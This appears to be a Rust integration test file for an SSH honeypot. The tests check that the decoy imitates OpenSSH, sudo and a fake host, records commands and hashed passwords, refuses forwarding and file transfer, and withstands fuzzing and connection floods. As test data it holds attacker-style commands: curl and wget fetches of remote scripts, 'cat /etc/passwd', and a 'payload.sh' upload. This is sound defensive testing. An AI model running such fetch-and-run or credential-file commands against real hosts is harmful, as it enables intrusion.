    let took = started.elapsed();
    let out = shell[0]["output"].as_str().unwrap();
    let prompt = "[sudo] password for deploy: ";
    assert!(
        out.contains(&format!(
            "sudo -i\r\n{prompt}\r\nSorry, try again.\r\n{prompt}\r\ndeploy is not in the sudoers file.\r\ndeploy@"
        )),
        "{out}"
    );
    assert!(!out.contains("wrong-guess"), "a password was echoed: {out}");
    // pam_unix holds a wrong password back for about 2 s.
    assert!(took >= Duration::from_secs(2), "answered after {took:?}");

    // Without a terminal sudo cannot ask, and says so as the real one does.
    let o = sshpass(
        d.addr("ssh"),
        "deploy",
        "Zq-Summer-2024",
        &["-o", "PubkeyAuthentication=no"],
        Some("sudo id"),
    );
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(
        stderr(&o),
        "sudo: a terminal is required to read the password; either use the -S option to read from standard input or configure an askpass helper\nsudo: a password is required\n"
    );

    let events = sensor.events_with("ssh_command", 5);
    let typed: Vec<_> = of_type(&events, "ssh_command")
        .into_iter()
        .filter(|e| e["event"]["source"] == "prompt")
        .collect();
    assert_eq!(typed.len(), 2, "{events:?}");
    for (e, password) in typed.iter().zip(["wrong-guess", "Zq-Summer-2024"]) {
        assert_eq!(e["event"]["command"], "sudo");
        assert_eq!(
            e["event"]["password"]["hmac"],
            sensor.password_hmac(password)
        );
    }
    let all = serde_json::to_string(&events).unwrap();
    assert!(
        !all.contains("wrong-guess"),
        "a sudo password was stored as text"
    );
    let lines: Vec<_> = of_type(&events, "ssh_command")
        .into_iter()
        .filter_map(|e| e["event"]["command"].as_str())
        .collect();
    assert!(
        lines.contains(&"sudo -i") && lines.contains(&"sudo id"),
        "{lines:?}"
    );
}

#[test]
fn an_accepted_credential_reaches_a_consistent_fake_host_and_every_command_is_recorded() {
    let sensor = ssh_sensor(&format!(
        "{SSH}accept:\n  - user: deploy\n    password: \"Zq-Summer-2024\"\nshell:\n  hostname: build-07\n  files:\n    /home/deploy/notes.txt: \"db: 10.0.4.20\\n\"\n"
    ));
    let d = sensor.start();
    let addr = d.addr("ssh");
    let login = ["-o", "PubkeyAuthentication=no"];

    let o = sshpass(
        addr,
        "deploy",
        "Zq-Summer-2024",
        &login,
        Some("cat /etc/passwd"),
    );
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let passwd = String::from_utf8(o.stdout).unwrap();
    assert!(
        passwd.starts_with("root:x:0:0:root:/root:/bin/bash\n"),
        "{passwd}"
    );
    assert!(
        passwd.ends_with("deploy:x:1000:1000:deploy:/home/deploy:/bin/bash\n"),
        "{passwd}"
    );

    let o = sshpass(
        addr,
        "deploy",
        "Zq-Summer-2024",
        &login,
        Some("whoami; uname -a; curl -s http://x/i.sh"),
    );
    assert_eq!(o.status.code(), Some(127));
    assert_eq!(
        String::from_utf8(o.stdout.clone()).unwrap(),
        "deploy\nLinux build-07 6.8.0-51-generic #52-Ubuntu SMP PREEMPT_DYNAMIC Thu Dec  5 13:09:44 UTC 2024 x86_64 x86_64 x86_64 GNU/Linux\n"
    );
    assert_eq!(stderr(&o), "bash: line 1: curl: command not found\n");

    let shell = paramiko(&[
        "shell",
        "127.0.0.1",
        &addr.port().to_string(),
        "deploy",
        "Zq-Summer-2024",
        "whoami",
        "hostname",
        "cat notes.txt",
        "wget http://x/bot",
    ]);
    let out = shell[0]["output"].as_str().unwrap();
    assert!(
        out.starts_with("Welcome to Ubuntu 24.04.1 LTS (GNU/Linux 6.8.0-51-generic x86_64)"),
        "{out}"
    );
    assert!(out.contains("deploy@build-07:~$ "), "{out}");
    assert!(out.contains("whoami\r\ndeploy\r\n"), "{out}");
    assert!(out.contains("hostname\r\nbuild-07\r\n"), "{out}");
    assert!(out.contains("db: 10.0.4.20\r\n"), "{out}");
    // wget runs and fetches nothing: the name does not resolve.
    assert!(
        out.contains(
            "Resolving x (x)... failed: Name or service not known.\r\n\
             wget: unable to resolve host address \u{2018}x\u{2019}\r\n"
        ),
        "{out}"
    );
    assert!(out.contains("logout"), "{out}");
    // `exit` passes on the status of the last command, as bash does.
    assert_eq!(shell[0]["status"], 4);

    // Forwarding and sftp are refused as a server that allows neither refuses them.
    let o = sshpass(
        addr,
        "deploy",
        "Zq-Summer-2024",
        &["-o", "PubkeyAuthentication=no", "-W", "127.0.0.9:3389"],
        None,
    );
    assert!(
        stderr(&o).contains("stdio forwarding failed"),
        "{}",
        stderr(&o)
    );
    let o = sshpass(
        addr,
        "deploy",
        "Zq-Summer-2024",
        &[
            "-o",
            "PubkeyAuthentication=no",
            "-o",
            "ExitOnForwardFailure=yes",
            "-N",
            "-R",
            "127.0.0.1:0:127.0.0.1:9",
        ],
        None,
    );
    assert!(
        stderr(&o).contains("remote port forwarding failed"),
        "{}",
        stderr(&o)
    );
    let sftp = Command::new("sshpass")
        .args(["-p", "Zq-Summer-2024", "sftp"])
        .args(
            ssh_options(addr)
                .iter()
                .map(|o| if o == "-p" { "-P" } else { o }),
        )
        .args(["-o", "PubkeyAuthentication=no", "deploy@127.0.0.1"])
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(!sftp.status.success());
    assert!(
        stderr(&sftp).contains("Connection closed"),
        "{}",
        stderr(&sftp)
    );
    let local = sensor.dir.path().join("payload.sh");
    std::fs::write(&local, "echo pwned\n").unwrap();
    let scp = Command::new("sshpass")
        .args(["-p", "Zq-Summer-2024", "scp", "-O"])
        .args(
            ssh_options(addr)
                .iter()
                .map(|o| if o == "-p" { "-P" } else { o }),
        )
        .args(["-o", "PubkeyAuthentication=no"])
        .arg(&local)
        .arg("deploy@127.0.0.1:/tmp/")
        .output()
        .unwrap();
    assert!(
        stderr(&scp).contains("scp: /tmp/: Permission denied"),
        "{}",
        stderr(&scp)
    );

    // A second login is told about the first, as sshd's lastlog line does.
    let again = paramiko(&[
        "shell",
        "127.0.0.1",
        &addr.port().to_string(),
        "deploy",
        "Zq-Summer-2024",
    ]);
    let out2 = again[0]["output"].as_str().unwrap();
    assert!(!out.contains("Last login:"), "{out}");
    assert!(
        out2.contains("\r\nLast login: ") && out2.contains(" from 127.0.0.1\r\n"),
        "{out2}"
    );

    // Each connection is recorded as it ends, which can be just after the client exits.
    let events = wait_for(
        "the shell session's record",
        Duration::from_secs(10),
        || {
            let ev = sensor.events();
            of_type(&ev, "ssh_connection")
                .iter()
                .any(|c| c["event"]["accepted_user"] == "deploy" && c["event"]["commands"] == 5)
                .then_some(ev)
        },
    );
    let accepted: Vec<_> = auths(&events, "password")
        .into_iter()
        .filter(|e| e["event"]["result"] == "accepted")
        .collect();
    assert_eq!(
        accepted.len(),
        8,
        "every login: two exec, two shells, -W, -R, sftp, scp"
    );
    let commands: Vec<(String, String, u64)> = of_type(&events, "ssh_command")
        .iter()
        .map(|e| {
            (
                e["event"]["source"].as_str().unwrap().to_string(),
                e["event"]["command"].as_str().unwrap().to_string(),
                e["event"]["status"].as_u64().unwrap(),
            )
        })
        .collect();
    let expected: Vec<(String, String, u64)> = [
        ("exec", "cat /etc/passwd", 0),
        ("exec", "whoami; uname -a; curl -s http://x/i.sh", 127),
        ("shell", "whoami", 0),
        ("shell", "hostname", 0),
        ("shell", "cat notes.txt", 0),
        ("shell", "wget http://x/bot", 4),
        ("shell", "exit", 4),
        ("exec", "scp -t /tmp/", 1),
        ("shell", "exit", 0),
    ]
    .iter()
    .map(|(s, c, st)| (s.to_string(), c.to_string(), *st))
    .collect();
    assert_eq!(commands, expected);
    let refused: Vec<(String, String)> = of_type(&events, "ssh_request")
        .iter()
        .map(|e| {
            assert_eq!(e["event"]["username"], "deploy");
            (
                e["event"]["request"].as_str().unwrap().to_string(),
                e["event"]["detail"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    assert_eq!(
        refused,
        [
            ("direct-tcpip".to_string(), "127.0.0.9:3389".to_string()),
            ("tcpip-forward".to_string(), "127.0.0.1:0".to_string()),
            ("subsystem".to_string(), "sftp".to_string()),
        ]
    );
    let conns = of_type(&events, "ssh_connection");
    assert!(
        conns
            .iter()
            .any(|c| c["event"]["accepted_user"] == "deploy" && c["event"]["commands"] == 5)
    );
}

#[test]
fn garbage_oversized_packets_and_silent_clients_are_closed_and_recorded() {
    let sensor = ssh_sensor(&format!("{SSH}login_grace_time: 1s\n"));
    let d = sensor.start();
    let addr = d.addr("ssh");
    let banner = "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5\r\n";

    let got = raw(
        addr,
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        Duration::from_secs(10),
    );
    assert_eq!(
        String::from_utf8_lossy(&got),
        format!("{banner}Invalid SSH identification string.\r\n")
    );
    let got = raw(addr, b"SSH-1.5-OldClient\r\n", Duration::from_secs(10));
    assert_eq!(
        String::from_utf8_lossy(&got),
        format!("{banner}Protocol major versions differ.\r\n")
    );

    // A packet that claims to be 2 GiB long.
    let started = Instant::now();
    let got = raw(
        addr,
        b"SSH-2.0-Fuzz\r\n\x7f\xff\xff\xff\x00\x00\x00\x00",
        Duration::from_secs(10),
    );
    assert!(got.starts_with(banner.as_bytes()));
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "closed at once, not at the grace time"
    );
    // Garbage where the key exchange should start: a well-framed packet of no known type.
    let got = raw(
        addr,
        b"SSH-2.0-Fuzz\r\n\x00\x00\x00\x0c\x04\xfe\xfe\xfe\xfe\xfe\xfe\xfe\x00\x00\x00\x00",
        Duration::from_secs(10),
    );
    assert!(got.starts_with(banner.as_bytes()));

    // An identification as long as OpenSSH reads (8192 bytes), sent in pieces, is taken;
    // the record keeps its first 255 bytes.
    let long = format!("SSH-2.0-{}\r\n", "L".repeat(8192 - 8));
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_nodelay(true).unwrap();
    for piece in long.as_bytes().chunks(100) {
        s.write_all(piece).unwrap();
        std::thread::sleep(Duration::from_millis(1));
    }
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let mut got = Vec::new();
    let mut buf = [0; 4096];
    while got.len() < banner.len() + 6 {
        let n = s.read(&mut buf).unwrap();
        assert!(n > 0, "{}", String::from_utf8_lossy(&got));
        got.extend_from_slice(&buf[..n]);
    }
    assert!(got.starts_with(banner.as_bytes()));
    assert_eq!(got[banner.len() + 5], 20, "the key exchange starts");
    drop(s);

    // A client that never says who it is is cut off at the login grace time.
    let started = Instant::now();
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let mut got = Vec::new();
    let _ = s.read_to_end(&mut got);
    assert_eq!(got, banner.as_bytes());
    assert!(
        started.elapsed() >= Duration::from_millis(900)
            && started.elapsed() < Duration::from_secs(10)
    );

    // The decoy is unaffected.
    let o = sshpass(
        addr,
        "root",
        "x",
        &[
            "-o",
            "NumberOfPasswordPrompts=1",
            "-o",
            "PubkeyAuthentication=no",
        ],
        Some("true"),
    );
    assert!(
        stderr(&o).contains("Permission denied (publickey,password)."),
        "{}",
        stderr(&o)
    );

    // Each connection is recorded as it ends, just after its client has gone, so two that
    // end together may be stored in either order: each is found by how it ended.
    let events = sensor.events_with("ssh_connection", 7);
    let conns = of_type(&events, "ssh_connection");
    assert_eq!(conns.len(), 7, "{conns:#?}");
    let ended = |how: &str| -> Vec<&serde_json::Value> {
        conns
            .iter()
            .map(|e| &e["event"])
            .filter(|e| e["ended"] == how)
            .collect()
    };
    let not_ssh = ended("not_ssh");
    assert_eq!(not_ssh.len(), 1, "{conns:#?}");
    assert_eq!(not_ssh[0]["preview"], "GET / HTTP/1.1\\r\\n…");
    assert_eq!(ended("bad_version").len(), 1, "{conns:#?}");
    let fuzz = ended("protocol_error");
    assert_eq!(fuzz.len(), 2, "{conns:#?}");
    assert!(
        fuzz.iter().all(|e| e["version"] == "SSH-2.0-Fuzz"),
        "{fuzz:#?}"
    );
    assert_eq!(ended("login_grace_time").len(), 1, "{conns:#?}");
    let closed = ended("closed");
    assert_eq!(closed.len(), 2, "{conns:#?}");
    let kept = format!("{}…", &long[..255]);
    assert!(closed.iter().any(|e| e["version"] == kept), "{closed:#?}");
}

#[test]
fn the_per_source_cap_refuses_the_extra_connection_and_leaves_room_for_others() {
    let sensor = ssh_sensor(&format!(
        "{SSH}limits:\n  max_connections: 4\n  max_connections_per_source: 2\n"
    ));
    let d = sensor.start();
    let addr = d.addr("ssh");
    let banner = |s: &mut TcpStream| {
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let mut buf = [0u8; 64];
        let n = s.read(&mut buf).unwrap_or(0);
        String::from_utf8_lossy(&buf[..n]).into_owned()
    };
    let mut held: Vec<TcpStream> = (0..2).map(|_| TcpStream::connect(addr).unwrap()).collect();
    for s in &mut held {
        assert!(banner(s).starts_with("SSH-2.0-OpenSSH_9.6p1"));
    }
    let mut third = TcpStream::connect(addr).unwrap();
    assert_eq!(
        banner(&mut third),
        "",
        "closed without a banner, as sshd past MaxStartups"
    );
    // Another source still gets in.
    let mut other = connect_from("127.0.0.2", addr);
    assert!(banner(&mut other).starts_with("SSH-2.0-OpenSSH_9.6p1"));
    drop(held);
    let refused = wait_for(
        "the refusal to be recorded",
        Duration::from_secs(20),
        || {
            let events = sensor.events();
            let r: Vec<serde_json::Value> = of_type(&events, "connection_refused")
                .into_iter()
                .cloned()
                .collect();
            (!r.is_empty()).then_some(r)
        },
    );
    assert_eq!(refused[0]["event"]["cap"], "max_connections_per_source");
    assert!(
        refused[0]["source"]
            .as_str()
            .unwrap()
            .starts_with("127.0.0.1:")
    );
}

/// A TCP connection from a chosen loopback address: every client of a test comes from
/// 127.0.0.1 unless it binds another (std cannot bind before connecting; tokio can).
fn connect_from(ip: &str, to: SocketAddr) -> TcpStream {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_io()
        .build()
        .unwrap();
    let s = rt.block_on(async {
        let s = tokio::net::TcpSocket::new_v4().unwrap();
        s.bind(format!("{ip}:0").parse().unwrap()).unwrap();
        s.connect(to).await.unwrap().into_std().unwrap()
    });
    s.set_nonblocking(false).unwrap();
    s
}

#[test]
fn every_answered_attempt_survives_sigkill() {
    let sensor = ssh_sensor(SSH);
    let d = sensor.start();
    let addr = d.addr("ssh");
    let opts = [
        "-o",
        "NumberOfPasswordPrompts=1",
        "-o",
        "PubkeyAuthentication=no",
    ];
    for i in 0..5 {
        let o = sshpass(
            addr,
            &format!("user{i}"),
            &format!("Zq-kill-{i}"),
            &opts,
            Some("true"),
        );
        assert!(stderr(&o).contains("Permission denied"), "{}", stderr(&o));
    }
    d.kill();
    let events = sensor.events();
    let stored: Vec<String> = auths(&events, "password")
        .iter()
        .map(|e| e["event"]["password"]["hmac"].as_str().unwrap().to_string())
        .collect();
    let answered: Vec<String> = (0..5)
        .map(|i| sensor.password_hmac(&format!("Zq-kill-{i}")))
        .collect();
    assert_eq!(stored, answered);
}

#[test]
fn an_idle_accepted_session_is_closed_and_the_reason_recorded() {
    let sensor = ssh_sensor(&format!(
        "{SSH}accept:\n  - user: deploy\n    password: \"Zq-idle-1\"\nlimits:\n  idle_timeout: 1s\n"
    ));
    let d = sensor.start();
    let started = Instant::now();
    // A shell that is opened and then left alone.
    let o = Command::new("sshpass")
        .args(["-p", "Zq-idle-1", "ssh", "-tt"])
        .args(ssh_options(d.addr("ssh")))
        .args(["-o", "PubkeyAuthentication=no", "deploy@127.0.0.1"])
        .stdin(std::process::Stdio::piped())
        .output()
        .unwrap();
    let _ = o;
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "closed by the decoy"
    );
    // Output for one command line is bounded, however much it asks for.
    let many = format!("cat{}", " /etc/passwd".repeat(300));
    let big = sshpass(
        d.addr("ssh"),
        "deploy",
        "Zq-idle-1",
        &["-o", "PubkeyAuthentication=no"],
        Some(&many),
    );
    assert_eq!(big.stdout.len(), 64 * 1024);
    assert!(big.stdout.starts_with(b"root:x:0:0:"));
    let events = sensor.events();
    let conns = of_type(&events, "ssh_connection");
    assert_eq!(conns[0]["event"]["ended"], "idle", "{events:#?}");
    assert_eq!(conns[0]["event"]["accepted_user"], "deploy");
}

#[test]
fn a_flood_of_silent_connections_neither_grows_memory_nor_locks_out_another_source() {
    let sensor = ssh_sensor(&format!(
        "{SSH}limits:\n  max_connections: 256\n  max_connections_per_source: 32\n"
    ));
    let d = sensor.start();
    let addr = d.addr("ssh");
    let idle = d.rss_kib();
    // 400 connections from one address that never say a word (bounded: held, then closed).
    let flood: Vec<TcpStream> = (0..400)
        .filter_map(|_| TcpStream::connect(addr).ok())
        .collect();
    assert_eq!(flood.len(), 400);
    // Another address still gets a full, answered login attempt with OpenSSH's client.
    let o = Command::new("sshpass")
        .args(["-p", "Zq-flood", "ssh", "-b", "127.0.0.2"])
        .args(ssh_options(addr))
        .args([
            "-o",
            "NumberOfPasswordPrompts=1",
            "-o",
            "PubkeyAuthentication=no",
            "root@127.0.0.1",
            "true",
        ])
        .output()
        .unwrap();
    assert!(
        stderr(&o).contains("Permission denied (publickey,password)."),
        "{}",
        stderr(&o)
    );
    let grown = d.rss_kib().saturating_sub(idle);
    drop(flood);
    assert!(
        grown < 32 * 1024,
        "RSS grew by {grown} KiB for 32 open connections"
    );
    // Refusals are written every few seconds, one counted touch per source.
    let refused = |e: &[serde_json::Value]| -> u64 {
        of_type(e, "connection_refused")
            .iter()
            .map(|r| r["count"].as_u64().unwrap())
            .sum()
    };
    let events = wait_for("every refusal counted", Duration::from_secs(30), || {
        let e = sensor.events();
        (refused(&e) >= 400 - 32).then_some(e)
    });
    assert_eq!(refused(&events), 400 - 32);
    let pw = auths(&events, "password");
    assert_eq!(pw.len(), 1);
    assert!(pw[0]["source"].as_str().unwrap().starts_with("127.0.0.2:"));
}

/// The SSH library locks each session's buffers in memory (mlock). A decoy's sessions hold
/// nothing worth keeping out of swap, and every lock and unlock splits and rejoins a heap
/// mapping, about a tenth of a connection's CPU: the daemon gives up memory locking at start,
/// so sessions run without it.
#[test]
fn open_ssh_sessions_lock_no_memory() {
    use std::io::BufRead;
    use std::process::Stdio;
    let sensor = ssh_sensor(SSH);
    let d = sensor.start();
    let addr = d.addr("ssh");
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/python/paramiko_client.py");
    let mut client = Command::new("python3")
        .arg(script)
        .args([
            "hold",
            &addr.ip().to_string(),
            &addr.port().to_string(),
            "4",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3 is installed");
    let mut line = String::new();
    std::io::BufReader::new(client.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let held: serde_json::Value = serde_json::from_str(&line)
        .unwrap_or_else(|e| panic!("the paramiko client printed {line:?}: {e}"));
    assert_eq!(held["active"], 4, "{held}");
    let locked = d.locked_kib();
    drop(client.stdin.take());
    assert!(client.wait().unwrap().success());
    assert_eq!(locked, 0, "KiB locked with 4 sessions open");
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", d.pid)).unwrap();
    let memlock = limits
        .lines()
        .find(|l| l.starts_with("Max locked memory"))
        .unwrap();
    assert_eq!(
        memlock.split_whitespace().collect::<Vec<_>>()[3..5],
        ["0", "0"],
        "{memlock}"
    );
}
